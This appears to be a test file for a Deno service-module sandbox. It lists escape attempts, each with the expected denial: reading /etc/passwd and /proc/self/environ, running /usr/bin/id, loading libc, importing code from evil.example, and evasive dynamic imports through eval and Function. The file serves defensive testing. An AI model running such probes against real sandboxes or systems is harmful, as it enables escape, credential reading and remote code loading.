import { IMPORT_RULE } from "../../src/service_host/import_rules.ts";
import { type Escape, testEscape } from "./hostile_module.ts";

const NOTHING_ELSE = "a service module may reach the hosts that its keys name, and nothing else";

function read(path: string): Pick<Escape, "fault" | "message" | "hint"> {
  const hint = "name the file in a key of type file if the module may read it";
  return { fault: "denied", message: `it wanted to read "${path}", which it may not`, hint };
}

function denied(message: string): Pick<Escape, "fault" | "message" | "hint"> {
  return { fault: "denied", message, hint: NOTHING_ELSE };
}

function imported(specifier: string): Pick<Escape, "fault" | "message" | "hint"> {
  const hint = `write the module as one file; it may import ${IMPORT_RULE}`;
  return { fault: "denied", message: `it wanted to import "${specifier}", which it may not`, hint };
}

function crash(message: string): Pick<Escape, "fault" | "message"> {
  return { fault: "crash", message: `${message} (AT)` };
}

const FILES: readonly Escape[] = [
  {
    name: "read a file",
    push: "await Deno.readTextFile('/etc/passwd');",
    ...read("/etc/passwd"),
  },
  {
    name: "read the environment of its process",
    push: "await Deno.readTextFile('/proc/self/environ');",
    ...read("/proc/self/environ"),
  },
  {
    name: "read the arguments of the daemon",
    push: `await Deno.readTextFile('/proc/${Deno.pid}/cmdline');`,
    ...read(`/proc/${Deno.pid}/cmdline`),
  },
  {
    name: "fetch a file",
    push: "await fetch('file:///etc/passwd');",
    ...read("/etc/passwd"),
  },
  {
    name: "write a file",
    push: "await Deno.writeTextFile('/tmp/stolen', 'x');",
    ...crash("TypeError: Deno.writeTextFile is not a function"),
  },
  {
    name: "write a file",
    loading: "import",
    push: "await Deno.writeTextFile('/tmp/stolen', 'x');",
    ...denied('it wanted to write "/tmp/stolen", which it may not'),
  },
  {
    name: "store something in the cache of the runtime",
    push: "await (await caches.open('x')).put('http://a/', new Response('x'));",
    ...crash("ReferenceError: caches is not defined"),
  },
  {
    name: "read a file by node:fs",
    loading: "import",
    push: "(await import('node:fs')).readFileSync('/etc/passwd');",
    ...read("/etc/passwd"),
  },
  {
    name: "open a database",
    loading: "import",
    push:
      "const { DatabaseSync } = await import('node:sqlite'); new DatabaseSync('/tmp/stolen.db');",
    ...read("/tmp/stolen.db"),
  },
];

const SYSTEM: readonly Escape[] = [
  {
    name: "see the environment",
    push: "process.env.HOME;",
    ...crash("ReferenceError: process is not defined"),
  },
  {
    name: "see a variable of the environment",
    loading: "import",
    push: "Deno.env.get('HOME');",
    ...denied('it wanted to know the environment variable "HOME", which it may not'),
  },
  {
    name: "see the whole environment",
    loading: "import",
    push: "Deno.env.toObject();",
    ...denied('it wanted to use access of the kind "env", which it may not'),
  },
  {
    name: "run a program",
    push: "await new Deno.Command('/usr/bin/id').output();",
    ...crash("TypeError: Deno.Command is not a constructor"),
  },
  {
    name: "run a program",
    loading: "import",
    push: "await new Deno.Command('/usr/bin/id').output();",
    ...denied('it wanted to run "/usr/bin/id", which it may not'),
  },
  {
    name: "load a library",
    push: "Deno.dlopen('libc.so.6', {});",
    ...crash("TypeError: Deno.dlopen is not a function"),
  },
  {
    name: "load a library",
    loading: "import",
    push: "Deno.dlopen('libc.so.6', {});",
    ...denied('it wanted to load the library "libc.so.6", which it may not'),
  },
  {
    name: "learn the host's name",
    loading: "import",
    push: "Deno.hostname();",
    ...denied('it wanted to know "hostname" of the system, which it may not'),
  },
  {
    name: "open the debugger",
    loading: "import",
    push: "(await import('node:inspector')).open(9229);",
    ...denied('it wanted to know "inspector" of the system, which it may not'),
  },
  {
    name: "reach the runtime's inner functions",
    push: "Deno[Deno.internal].core;",
    ...crash("TypeError: Cannot read properties of undefined (reading 'core')"),
  },
  {
    name: "read a file by the runtime's inner functions",
    loading: "import",
    push: "Deno[Deno.internal].core.ops.op_fs_read_file_text_async('/etc/passwd');",
    ...crash(
      "TypeError: Deno[Deno.internal].core.ops.op_fs_read_file_text_async is not a function",
    ),
  },
  {
    name: "talk to other services by a channel",
    push: "new BroadcastChannel('x').postMessage('x');",
    ...crash("ReferenceError: BroadcastChannel is not defined"),
  },
  {
    name: "hold a lock that other services wait for",
    push: "await navigator.locks.request('x', () => new Promise(() => {}));",
    ...crash("ReferenceError: navigator is not defined"),
  },
  {
    name: "ask the operator for a permission",
    push: "await Deno.permissions.request({ name: 'read' });",
    ...crash("TypeError: Cannot read properties of undefined (reading 'request')"),
  },
];

const IMPORTS: readonly Escape[] = [
  ...[
    "https://evil.example/x.js",
    "npm:left-pad@1.2.0",
    "jsr:@std/path",
    "node:net",
    "node:dgram",
    "node:fs",
    "node:process",
    "node:module",
    "node:vm",
    "node:worker_threads",
    "node:child_process",
    "file:///etc/passwd",
    "./other_service.ts",
    "data:text/javascript,export default Deno",
  ].map((specifier) => ({
    name: `import ${specifier}`,
    push: `await import('${specifier}');`,
    ...imported(specifier),
  })),
  {
    name: "import in evaluated text",
    push: "await new Function(\"return import('node:fs')\")();",
    ...imported("node:fs"),
  },
  {
    name: "import in text that is evaluated by nobody's code",
    push: "await Promise.resolve(\"import('node:process')\").then(eval);",
    ...imported("node:process"),
  },
  {
    name: "import in a function made of text by nobody's code",
    push:
      "await Promise.resolve(\"return import('node:process')\").then(Function).then((made) => made());",
    ...imported("node:process"),
  },
  {
    name: "import from the network",
    loading: "import",
    push: "await import('https://evil.example/x.js');",
    ...imported("evil.example:443"),
  },
  {
    name: "import a file as text",
    loading: "import",
    push: "await import('file:///etc/hostname', { with: { type: 'text' } });",
    ...read("/etc/hostname"),
  },
  {
    name: "require a file",
    loading: "import",
    push:
      "(await import('node:module')).createRequire('file:///x/y.js')('fs').readFileSync('/etc/passwd');",
    ...read("/etc/passwd"),
  },
  {
    name: "get a built-in module behind the import rules",
    push: "process.getBuiltinModule('fs').readFileSync('/etc/passwd');",
    ...crash("ReferenceError: process is not defined"),
  },
  {
    name: "start a Worker that has no import rules",
    push: "new Worker('data:text/javascript,1', { type: 'module' });",
    ...crash("ReferenceError: Worker is not defined"),
  },
  {
    name: "start a Worker with more rights",
    loading: "import",
    push:
      "new Worker('data:text/javascript,1', { type: 'module', deno: { permissions: { read: true } } });",
    ...crash("NotCapable: Can't escalate parent thread permissions"),
  },
];

const DECLARED: readonly Escape[] = [
  'import process from "node:process";',
  'import * as fs from "node:fs";',
  'import "node:fs";',
  'export * from "node:fs";',
  'import defer * as fs from "node:fs";',
  'import { createRequire } from /* ! */ "node:module";',
  'import "npm:left-pad@1.2.0";',
  'import "node:\\x70rocess";',
].map((top) => {
  const specifier = /"([^"]*)"/.exec(top)?.[1]?.replace("\\x70", "p") ?? "";
  return { name: `declare ${top}`, push: "", top, ...imported(specifier) };
});

for (const escape of [...FILES, ...SYSTEM, ...IMPORTS, ...DECLARED]) testEscape(escape);
